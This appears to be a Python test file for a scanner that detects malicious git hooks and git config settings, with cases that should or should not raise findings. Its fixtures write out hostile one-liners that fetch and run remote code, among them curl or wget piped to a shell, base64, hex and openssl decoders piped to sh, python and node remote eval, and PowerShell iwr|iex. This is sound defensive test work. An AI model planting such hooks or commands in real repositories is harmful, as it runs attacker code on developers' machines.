from _kit import fires, silent

fires("hook_curl_pipe_sh", "git_hook_runs_payload", "critical", ".git/hooks/post-checkout",
      "post-checkout-curl.sh", "#!/bin/sh\ncurl -fsSL https://cdn.example.net/x.sh | bash\n", mode="755")
fires("husky_hook_base64", "git_hook_runs_payload", "critical", ".husky/pre-commit",
      "husky-pre-commit-b64.sh", "#!/bin/sh\necho Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo= | base64 -d | sh\nnpx lint-staged\n")
silent("hook_sample_with_curl", "git_hook_runs_payload", ".git/hooks/post-checkout.sample", "post-checkout-curl.sh", mode="755")
fires("hook_executable", "git_hook_added", "high", ".git/hooks/pre-commit",
      "pre-commit-lint.sh", "#!/bin/sh\nnpx lint-staged\n", mode="755")
fires("submodule_hook_executable", "git_hook_added", "high", ".git/modules/vendor/lib/hooks/pre-push",
      "pre-commit-lint.sh", mode="755")
silent("hook_not_executable", "git_hook_added", ".git/hooks/pre-commit", "pre-commit-lint.sh")
fires("fsmonitor_command", "git_config_fsmonitor_command", "critical", ".git/config",
      "config-fsmonitor", "[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tfsmonitor = .git/info/fsm.sh\n")
fires("fsmonitor_in_global_config", "git_config_fsmonitor_command", "critical", ".gitconfig",
      "gitconfig-fsmonitor", "[user]\n\tname = Dev\n[core]\n\tfsmonitor = \"sh -c 'id > /tmp/p'\"\n")
silent("fsmonitor_builtin", "git_config_fsmonitor_command", ".git/config",
       "config-fsmonitor-true", "[core]\n\tbare = false\n\tfsmonitor = true\n\tuntrackedCache = true\n")
fires("config_ssh_command", "git_config_runs_command", "high", ".git/config",
      "config-sshcommand", "[core]\n\tbare = false\n\tsshCommand = ssh -o ProxyCommand='sh -c \"id>/tmp/o\"'\n[remote \"origin\"]\n\turl = git@github.com:a/b.git\n")
fires("config_smudge_filter", "git_config_runs_command", "high", ".git/modules/lib/config",
      "config-filter", "[core]\n\tbare = false\n[filter \"fmt\"]\n\tsmudge = ./tools/fmt --restore\n\tclean = cat\n")
fires("config_pager", "git_config_runs_command", "high", ".git/config",
      "config-pager", "[core]\n\tbare = false\n\tpager = ./.git/p.sh\n")
silent("config_husky_and_lfs", "git_config_runs_command", ".git/config",
       "config-husky-lfs", "[core]\n\trepositoryformatversion = 0\n\tbare = false\n\thooksPath = .husky/_\n"
       "[filter \"lfs\"]\n\tclean = git-lfs clean -- %f\n\tsmudge = git-lfs smudge -- %f\n\tprocess = git-lfs filter-process\n\trequired = true\n"
       "[remote \"origin\"]\n\turl = https://github.com/a/b.git\n\tfetch = +refs/heads/*:refs/remotes/origin/*\n"
       "[branch \"main\"]\n\tremote = origin\n\tmerge = refs/heads/main\n")
silent("global_config_pager", "git_config_runs_command", ".gitconfig",
       "gitconfig-delta", "[core]\n\tpager = delta\n[interactive]\n\tdiffFilter = delta --color-only\n[diff]\n\texternal = difft\n")

for case, name, body in [
    ("hook_source_process_subst", "post-merge-source", "#!/bin/bash\nsource <(curl -s https://hooks.example.org/m)\n"),
    ("hook_bash_c_subst", "pre-push-bash-c", "#!/bin/sh\nbash -c \"$(wget -qO- https://hooks.example.org/p)\"\ngit lfs pre-push \"$@\"\n"),
    ("hook_download_chmod_run", "post-checkout-dl",
     "#!/bin/sh\ncurl -fsSL -o /tmp/.gc https://cdn.example.net/gc\nchmod +x /tmp/.gc\n/tmp/.gc &\n"),
    ("hook_xxd_hex", "pre-commit-xxd", "#!/bin/sh\necho 6375726c202d73206874747073 | xxd -r -p | sh\n"),
    ("hook_openssl_decode", "commit-msg-openssl",
     "#!/bin/sh\nopenssl enc -d -aes-256-cbc -pbkdf2 -k k -in .git/info/blob | bash\n"),
    ("hook_printf_escapes", "pre-rebase-printf", "#!/bin/sh\nprintf '\\x63\\x75\\x72\\x6c\\x20\\x2d\\x73' | sh\n"),
    ("hook_python_urllib_exec", "post-commit-py",
     "#!/bin/sh\npython3 -c \"import urllib.request as u;exec(u.urlopen('https://x.example/a').read())\"\n"),
    ("hook_node_fetch_eval", "post-rewrite-node",
     "#!/bin/sh\nnode -e \"fetch('https://x.example/a').then(r=>r.text()).then(t=>eval(t))\"\n"),
    ("hook_crlf", "pre-commit-crlf", "#!/bin/sh\r\nwget -qO- http://203.0.113.5/a | sh\r\n"),
]:
    fires(case, "git_hook_runs_payload", "critical", ".git/hooks/" + name.rsplit("-", 1)[0], name, body, mode="755")
silent("hook_downloads_without_running", "git_hook_runs_payload", ".git/hooks/pre-push",
       "pre-push-fetch-only", "#!/bin/sh\ncurl -fsSL -o .git/lfs-version https://api.example.org/lfs/version\n"
       "echo 'see https://example.org/docs' | sed 's/x/y/'\nbase64 -d < notes.b64 > notes.txt\n", mode="755", also="git_hook_added")

fires("config_upper_case_fsmonitor", "git_config_fsmonitor_command", "critical", ".git/config",
      "config-upper-fsmonitor", "[CORE]\n\tRepositoryFormatVersion = 0\n\tFsMonitor = \"./.git/fsm\"\n")
# A payload in core.fsmonitor is one critical finding, not two (the payload rule reads another view).
fires("config_fsmonitor_payload_once", "git_config_fsmonitor_command", "critical", ".git/config",
      "config-fsmonitor-payload", "[core]\n\tfsmonitor = \"sh -c 'cu\"\"rl -s https://x.example/f | sh'\"\n")
fires("config_alias_curl", "git_config_command_payload", "critical", ".gitconfig",
      "gitconfig-alias-curl", "[user]\n\tname = Dev\n[Alias]\n\tst = \"!curl -s https://x.example/g | sh; git status\"\n")
silent("config_alias_log", "git_config_command_payload", ".gitconfig",
       "gitconfig-alias-log", "[alias]\n\tlg = \"!git log --graph --oneline | less\"\n"
       "\tweb = \"!f() { xdg-open https://github.com/$(git remote get-url origin | sed 's/.*://'); }; f\"\n")
for case, name, body in [
    ("config_upper_case_hookspath", "config-hookspath", "[core]\n\tbare = false\n\tHooksPath = .git/info/h\n"),
    ("config_alias_shell", "config-alias", "[core]\n\tbare = false\n[alias]\n\tco = !./tools/co.sh\n"),
    ("config_include", "config-include", "[core]\n\tbare = false\n[includeIf \"gitdir:~/\"]\n\tpath = ../.cfg/extra\n"),
    ("config_editor", "config-editor", "[core]\n\tbare = false\n\teditor = .git/ed\n"),
]:
    fires(case, "git_config_runs_command", "high", ".git/config", name, body)
fires("global_config_filter_in_tmp", "git_config_runs_command", "high", ".gitconfig",
      "gitconfig-filter-tmp", "[filter \"crlf\"]\n\tclean = /tmp/.x/clean\n\tsmudge = cat\n")
silent("global_config_includes_and_aliases", "git_config_runs_command", ".gitconfig", "gitconfig-ordinary",
       "[include]\n\tpath = ~/.gitconfig.local\n[alias]\n\tst = status -sb\n\tamend = !git commit --amend --no-edit\n"
       "[core]\n\teditor = nvim\n\tpager = less -FRX\n[remote \"origin\"]\n\turl = ../mirror.git\n")
fires("hooks_path_folder_payload", "git_hook_runs_payload", "critical", "tools/git-hooks/pre-commit",
      "githooks-pre-commit", "#!/usr/bin/env bash\nset -e\nnpm run lint\ncurl -sL https://203.0.113.3/h | bash &\n", mode="755")
silent("hook_crlf_printf_colours", "git_hook_runs_payload", ".git/hooks/pre-commit",
       "pre-commit-crlf-ok", "#!/bin/sh\r\nprintf '\\x1b[32m\\x1b[1mlint\\x1b[0m\\n'\r\nnpx lint-staged\r\n",
       mode="755", also="git_hook_added")
silent("config_upper_case_builtin_fsmonitor", "git_config_fsmonitor_command", ".git/config",
       "config-upper-builtin", "[Core]\n\tBare = false\n\tFsMonitor = TRUE\n\tUntrackedCache = true\n")
fires("hook_powershell_iwr_iex", "git_hook_runs_payload", "critical", ".githooks/pre-commit",
      "pre-commit-iwr", "#!/bin/sh\npowershell.exe -NoProfile -Command \"iwr -useb https://203.0.113.3/p.ps1 | iex\"\n", mode="755")
